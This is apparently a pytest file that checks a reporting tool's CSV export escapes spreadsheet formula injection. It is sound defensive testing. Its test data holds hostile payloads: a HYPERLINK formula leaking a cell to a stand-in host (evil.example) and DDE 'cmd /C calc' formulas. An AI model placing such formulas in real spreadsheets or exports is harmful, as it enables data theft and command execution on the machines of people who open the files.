"""CSV outputs open in a spreadsheet as data, never as formulas (OWASP "CSV Injection").

A text cell or heading that a spreadsheet would run — it starts with = + - @, TAB, CR, LF
or NUL, also after leading blanks — is written with a leading `'`. Numeric columns are
untouched (-5 stays a number), and so is a text cell that is a plain number ("-5").
Text cells are quoted, so a `;` inside one cannot start a new cell. Each file is read
back with the csv module and checked cell by cell.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from reports.render import render_report
from reports.tables import Table

# (value in the data, cell in the CSV)
TEXT_CASES = [
    (
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    ),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-", "'-"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tplain", "'\tplain"),
    ("\rplain", "'\rplain"),
    ("\nplain", "'\nplain"),
    ("\x00=1", "'\x00=1"),
    ("  =1+1", "'  =1+1"),  # LibreOffice's "trim spaces" import would run it
    ("\xa0@SUM(A1)", "'\xa0@SUM(A1)"),
    ("＝1+1", "'＝1+1"),  # full-width equals sign
    ("-5", "-5"),  # a plain number is no formula
    ("+7", "+7"),
    ("-1.5e3", "-1.5e3"),
    ("-.5", "-.5"),
    ("a;=1+1", "a;=1+1"),  # quoted below, so the ; stays inside the cell
    ("x=1", "x=1"),
    ("Widgets", "Widgets"),
    ("", ""),
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_text_cells_that_would_run_get_a_leading_quote():
    frame = pd.DataFrame(
        {"label": [value for value, _ in TEXT_CASES], "amount": range(len(TEXT_CASES))}
    )
    rows = read_csv(Table("t", frame, "T").to_csv_bytes())
    assert rows[0] == ["label", "amount"]
    assert [row[0] for row in rows[1:]] == [cell for _, cell in TEXT_CASES]
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(TEXT_CASES))]


def test_numbers_stay_numbers_and_text_is_quoted():
    frame = pd.DataFrame(
        {
            "delay": [-5, 12],
            "rate": [-0.25, float("nan")],
            "code": ["-5", "a;=1+1"],
            "flag": [True, False],
            "day": pd.to_datetime(["2013-07-01", "2013-07-02"]),
        }
    )
    text = Table("t", frame, "T").to_csv_bytes().decode("utf-8")
    assert text.splitlines() == [
        '"delay","rate","code","flag","day"',
        '-5,-0.25,"-5",True,"2013-07-01"',
        '12,"","a;=1+1",False,"2013-07-02"',
    ]


def test_object_and_categorical_columns_are_neutralised():
    frame = pd.DataFrame(
        {
            "mixed": pd.Series([1, "=1+1", None, -2.5, "-3"], dtype=object),
            "kind": pd.Categorical(["@x", "ok", "ok", "@x", "+"]),
        }
    )
    rows = read_csv(Table("t", frame, "T").to_csv_bytes())
    assert rows[1:] == [
        ["1", "'@x"],
        ["'=1+1", "ok"],
        ["", "ok"],
        ["-2.5", "'@x"],
        ["-3", "'+"],
    ]


def test_headings_are_neutralised():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "-5": [1], "@h": ["y"], "ok": [2]})
    rows = read_csv(Table("t", frame, "T").to_csv_bytes())
    assert rows[0] == ["'=cmd|' /C calc'!A0", "-5", "'@h", "ok"]


def test_the_loaders_frame_is_left_as_it_was():
    frame = pd.DataFrame({"label": ["=1+1", "ok"], "n": [-5, 1]})
    before = frame.copy()
    Table("t", frame, "T").to_csv_bytes()
    pd.testing.assert_frame_equal(frame, before)


# --- through the whole pipeline ---------------------------------------------------------


@pytest.fixture
def hostile(mini):
    # Parquet, not CSV: the source data keeps every control character exactly.
    rows = [{"region": "north", "label": v, "amount": n - 5} for n, (v, _) in enumerate(TEXT_CASES)]
    pd.DataFrame(rows).to_parquet(mini.data_dir / "items.parquet")
    return mini


def written_csv(ws) -> bytes:
    manifest = render_report(ws.report("mini"), {"region": "north"}, ws.store(), formats=["csv"])
    (path,) = [e["path"] for e in manifest["files"] if e["name"].endswith(".csv")]
    return ws.store().read_bytes(path)


def test_published_csv_is_neutralised(hostile):
    rows = read_csv(written_csv(hostile))
    assert rows[0] == ["region", "label", "amount"]
    assert [row[1] for row in rows[1:]] == [cell for _, cell in TEXT_CASES]
    assert [row[2] for row in rows[1:]] == [str(n - 5) for n in range(len(TEXT_CASES))]


def test_published_csv_keeps_negative_amounts_numeric(hostile):
    lines = written_csv(hostile).decode("utf-8").splitlines()
    assert lines[1] == '"north","\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-5'


def test_published_csv_neutralises_a_heading(mini):
    loader = mini.add_report("mini") / "loader.py"
    loader.write_text(
        loader.read_text()
        .replace('items = data["items"]', 'items = data["items"].rename(columns={"label": "=2+5"})')
        .replace('"label": "Label"', '"=2+5": "Label"'),
        encoding="utf-8",
    )
    rows = read_csv(written_csv(mini))
    assert rows[0] == ["region", "'=2+5", "amount"]
    assert rows[1] == ["north", "Widgets", "1200"]
